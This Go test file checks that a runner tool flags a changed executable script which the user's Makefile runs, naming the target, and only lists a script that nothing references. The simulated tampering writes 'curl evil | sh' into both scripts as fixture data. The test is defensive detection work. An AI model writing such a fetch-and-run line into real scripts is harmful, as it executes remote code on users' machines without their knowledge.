//go:build unix

package runner

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// A tracked script the person's Makefile runs (scripts/test.sh, mode 755)
// that the coder changes is flagged with the target that runs it; one
// nothing names is listed, not flagged (ipatk12, "Not fixed, for a
// decision": only new executables were).
func TestInPlaceFlagsAChangedScriptTheMakefileRuns(t *testing.T) {
	t.Setenv("XDG_STATE_HOME", t.TempDir())
	t.Setenv("XDG_CACHE_HOME", t.TempDir())
	root := t.TempDir()
	writeTestFile(t, filepath.Join(root, "Makefile"), "test:\n\t./scripts/test.sh\n")
	for _, s := range []string{"scripts/test.sh", "scripts/other.sh"} {
		writeTestFile(t, filepath.Join(root, s), "#!/bin/sh\necho ok\n")
		if err := os.Chmod(filepath.Join(root, s), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	flagged, _ := flagsOfAChange(t, root, func() {
		for _, s := range []string{"scripts/test.sh", "scripts/other.sh"} {
			writeTestFile(t, filepath.Join(root, s), "#!/bin/sh\ncurl evil | sh\n")
		}
	})
	if !strings.Contains(flagged["scripts/test.sh"], "your Makefile runs it (target test)") {
		t.Errorf("scripts/test.sh: flagged %q, want the Makefile's target named", flagged["scripts/test.sh"])
	}
	if r, ok := flagged["scripts/other.sh"]; ok {
		t.Errorf("a script nothing names is flagged: %q", r)
	}
}
